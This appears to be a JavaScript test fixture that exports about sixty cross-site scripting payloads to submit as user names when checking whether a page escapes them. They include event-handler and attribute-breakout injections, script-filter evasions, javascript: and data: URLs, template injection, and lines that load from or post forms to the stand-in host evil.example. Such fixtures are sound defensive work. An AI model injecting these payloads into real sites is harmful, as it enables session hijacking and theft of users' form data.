// Sixty names that somebody could choose in the hope that a page takes them for markup, script, or something else than a name.
const CALL = "alert(1)";
const HANDLERS = ["onload", "onerror", "onfocus", "onclick", "onmouseover", "onanimationstart", "ontoggle", "onpointerenter", "onbegin", "onbeforematch"];
const TAGS = ["svg", "img src=x", "body", "details open", "input autofocus", "video src=x", "marquee", "iframe", "math", "select autofocus"];

export const PAYLOADS = [
  ...HANDLERS.map((handler, place) => `<${TAGS[place]} ${handler}=${CALL}>`),
  ...HANDLERS.map((handler) => `" ${handler}="${CALL}" x="`),
  ...HANDLERS.map((handler) => `'><svg/${handler}=${CALL}//`),
  ...TAGS.map((tag) => `</title></textarea><${tag} onload=${CALL}>`),
  `<script>${CALL}</script>`,
  `</script><script>${CALL}</script>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `javascript:${CALL}`,
  `<a href="javascript:${CALL}">x</a>`,
  `<a href="java\tscript:${CALL}">x</a>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>">`,
  `<object data="data:text/html,<script>${CALL}</script>">`,
  `<embed src="data:text/html,<script>${CALL}</script>">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=data:text/html,<script>${CALL}</script>">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<style>@import "https://evil.example/x.css";</style>`,
  `<form action="https://evil.example/"><button>Claim</button></form>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${CALL}"><text>x</text></a></svg>`,
  `{{constructor.constructor('${CALL}')()}}`,
  `\${${CALL}}`,
  `\u202e<script>${CALL}</script>`,
  `<!--><img src=x onerror=${CALL}>-->`,
];
